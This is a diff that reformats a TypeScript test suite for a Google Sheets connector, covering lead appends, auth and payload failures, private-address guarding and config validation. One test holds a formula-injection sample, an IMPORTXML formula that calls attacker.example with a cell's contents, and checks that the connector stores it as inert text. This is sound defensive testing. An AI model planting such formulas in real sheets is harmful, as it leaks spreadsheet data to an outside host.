@@ -25,7 +25,13 @@ afterEach(async () => {
 });
 
 function configFor(overrides: Record<string, unknown> = {}) {
-  return GoogleSheetsConfigSchema.parse({ credentials: fake.serviceAccountKey(), spreadsheetId: fake.spreadsheetId, columns: LEAD_COLUMNS, api_root_url: fake.url, ...overrides });
+  return GoogleSheetsConfigSchema.parse({
+    credentials: fake.serviceAccountKey(),
+    spreadsheetId: fake.spreadsheetId,
+    columns: LEAD_COLUMNS,
+    api_root_url: fake.url,
+    ...overrides,
+  });
 }
 
 const deliver = (config = configFor(), message: OutboundMessage = leadMessage()) => googleSheetsConnector.deliver(ctx, config, message);
@@ -43,7 +49,10 @@ describe('delivering leads into the sheet', () => {
     expect(first).toMatchObject({ ok: true, status: 200, recordId: 'Sheet1!A2:G2', warning: null });
     expect(fake.grid()).toEqual([LEAD_COLUMNS, JANE]);
 
-    const second = await deliver(configFor(), leadMessage({ name: 'Omar Diaz', email: 'omar@example.com', phone: '+442071838750', eventId: 'msg_9pQ2', customerId: 'cus_z9' }));
+    const second = await deliver(
+      configFor(),
+      leadMessage({ name: 'Omar Diaz', email: 'omar@example.com', phone: '+442071838750', eventId: 'msg_9pQ2', customerId: 'cus_z9' }),
+    );
     expect(second).toMatchObject({ ok: true, recordId: 'Sheet1!A3:G3', warning: null });
     expect(fake.grid()).toEqual([
       LEAD_COLUMNS,
@@ -59,7 +68,7 @@ describe('delivering leads into the sheet', () => {
     ]);
   });
 
-  test('the attempt records the append without credentials, and Google\'s answer', async () => {
+  test("the attempt records the append without credentials, and Google's answer", async () => {
     const result = await deliver();
     expect(result.request).toEqual({
       method: 'POST',
@@ -97,7 +106,9 @@ describe('delivering leads into the sheet', () => {
   test('text that looks like a formula is written as text, not run', async () => {
     const evil = '=IMPORTXML("https://attacker.example/?q="&B2,"//a")';
     await deliver(configFor(), leadMessage({ name: evil }));
-    expect(appends()[0].body).toMatchObject({ values: [[`'${evil}`, 'jane@example.com', "'+15555550123", 'lead.captured', '2026-05-03T14:22:08Z', 'msg_2wF8kLq9', 'cus_a1b2c3']] });
+    expect(appends()[0].body).toMatchObject({
+      values: [[`'${evil}`, 'jane@example.com', "'+15555550123", 'lead.captured', '2026-05-03T14:22:08Z', 'msg_2wF8kLq9', 'cus_a1b2c3']],
+    });
     expect(fake.grid()[1][0]).toBe(evil);
   });
 
@@ -106,7 +117,13 @@ describe('delivering leads into the sheet', () => {
     expect(results.every((r) => r.ok)).toBe(true);
     expect(calls('PUT', '/values/')).toHaveLength(1);
     expect(fake.grid()[0]).toEqual(LEAD_COLUMNS);
-    expect(fake.grid().slice(1).map((r) => r[0]).sort()).toEqual(['a', 'b', 'c']);
+    expect(
+      fake
+        .grid()
+        .slice(1)
+        .map((r) => r[0])
+        .sort(),
+    ).toEqual(['a', 'b', 'c']);
   });
 
   test('one token serves many deliveries (and the connection test)', async () => {
@@ -237,7 +254,7 @@ describe('failures', () => {
     expect((await deliver()).ok).toBe(true);
   });
 
-  test('a key that is not the service account\'s (bad signature) is final AUTH', async () => {
+  test("a key that is not the service account's (bad signature) is final AUTH", async () => {
     const other = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
     const result = failure(await deliver(configFor({ credentials: fake.serviceAccountKey({ private_key: other }) })));
     expect(result).toMatchObject({ retryable: false, errorCode: 'AUTH' });
@@ -245,7 +262,9 @@ describe('failures', () => {
   });
 
   test('a private key that is not a key at all is final AUTH without calling Google', async () => {
-    const result = failure(await deliver(configFor({ credentials: fake.serviceAccountKey({ private_key: '-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n' }) })));
+    const result = failure(
+      await deliver(configFor({ credentials: fake.serviceAccountKey({ private_key: '-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n' }) })),
+    );
     expect(result).toMatchObject({ retryable: false, errorCode: 'AUTH' });
     expect(result.error).toContain(`The private key of ${fake.clientEmail} cannot be used`);
     expect(fake.requests).toHaveLength(0);
@@ -264,15 +283,19 @@ describe('failures', () => {
   });
 
   test('an event body that is not JSON is final PAYLOAD', async () => {
-    const result = failure(await deliver(configFor(), { ...leadMessage(), payload: undefined, body: Buffer.from('name=Jane'), contentType: 'application/x-www-form-urlencoded' }));
+    const result = failure(
+      await deliver(configFor(), { ...leadMessage(), payload: undefined, body: Buffer.from('name=Jane'), contentType: 'application/x-www-form-urlencoded' }),
+    );
     expect(result).toMatchObject({ retryable: false, errorCode: 'PAYLOAD' });
     expect(fake.requests).toHaveLength(0);
   });
 
-  test('columns that match none of the event\'s fields are final PAYLOAD, not a blank row', async () => {
+  test("columns that match none of the event's fields are final PAYLOAD, not a blank row", async () => {
     const result = failure(await deliver(configFor({ columns: ['Name', 'Email'] })));
     expect(result).toMatchObject({ retryable: false, errorCode: 'PAYLOAD' });
-    expect(result.error).toBe('None of the columns is a field of this event. Its fields are: name, email, phone, eventType, eventTimestamp, eventId, customerId.');
+    expect(result.error).toBe(
+      'None of the columns is a field of this event. Its fields are: name, email, phone, eventType, eventTimestamp, eventId, customerId.',
+    );
     expect(fake.requests).toHaveLength(0);
   });
 });
@@ -294,10 +317,16 @@ describe('private addresses', () => {
     expect(fake.requests).toHaveLength(0);
   });
 
-  test('requests go through the hub\'s dispatcher, so its DNS guard applies to a name resolving to loopback', async () => {
+  test("requests go through the hub's dispatcher, so its DNS guard applies to a name resolving to loopback", async () => {
     const guarded = new Agent({ connect: { lookup: publicOnlyLookup as never } });
     try {
-      const result = failure(await googleSheetsConnector.deliver({ ...ctx, dispatcher: guarded }, configFor({ api_root_url: fake.url.replace('127.0.0.1', 'localhost') }), leadMessage()));
+      const result = failure(
+        await googleSheetsConnector.deliver(
+          { ...ctx, dispatcher: guarded },
+          configFor({ api_root_url: fake.url.replace('127.0.0.1', 'localhost') }),
+          leadMessage(),
+        ),
+      );
       expect(result).toMatchObject({ retryable: false, errorCode: 'PRIVATE_ADDRESS' });
       expect(fake.requests.filter((r) => r.path.startsWith('/v4/'))).toHaveLength(0);
     } finally {
@@ -349,7 +378,9 @@ describe('testing the connection', () => {
   test('a missing sheet tab: lists the tabs there are', async () => {
     const result = await googleSheetsConnector.testConnection(ctx, configFor({ sheetName: 'Escalations' }));
     expect(result.ok).toBe(false);
-    expect(result.message).toBe('Connected to "Leads 2026", but it has no sheet "Escalations" (its sheets: "Sheet1"). Create the tab or change the sheet name.');
+    expect(result.message).toBe(
+      'Connected to "Leads 2026", but it has no sheet "Escalations" (its sheets: "Sheet1"). Create the tab or change the sheet name.',
+    );
   });
 });
 
@@ -379,7 +410,7 @@ describe('config', () => {
     expect(GoogleSheetsConfigSchema.parse(JSON.parse(JSON.stringify(once)))).toEqual(once);
   });
 
-  test('accepts the key pasted as JSON text, and the spreadsheet\'s URL', () => {
+  test("accepts the key pasted as JSON text, and the spreadsheet's URL", () => {
     const config = GoogleSheetsConfigSchema.parse({
       ...valid(),
       credentials: JSON.stringify(fake.serviceAccountKey()),
@@ -399,9 +430,13 @@ describe('config', () => {
 
   test('rejects a key that is not a service account key, or is not JSON', () => {
     const userKey = { type: 'authorized_user', client_id: 'x.apps.googleusercontent.com', client_secret: 's', refresh_token: 'r' };
-    expect(issues({ ...valid(), credentials: userKey })).toContain('credentials.type: must be a service account key ("type": "service_account"), not an OAuth client or user key');
+    expect(issues({ ...valid(), credentials: userKey })).toContain(
+      'credentials.type: must be a service account key ("type": "service_account"), not an OAuth client or user key',
+    );
     expect(issues({ ...valid(), credentials: 'not json' })).toEqual([expect.stringContaining('credentials: must be the service account JSON key')]);
-    expect(issues({ ...valid(), credentials: { ...fake.serviceAccountKey(), private_key: 'secret' } })).toEqual([expect.stringContaining('credentials.private_key: must be the PEM private key')]);
+    expect(issues({ ...valid(), credentials: { ...fake.serviceAccountKey(), private_key: 'secret' } })).toEqual([
+      expect.stringContaining('credentials.private_key: must be the PEM private key'),
+    ]);
   });
 
   test('rejects unknown keys and an api_root_url with a path', () => {
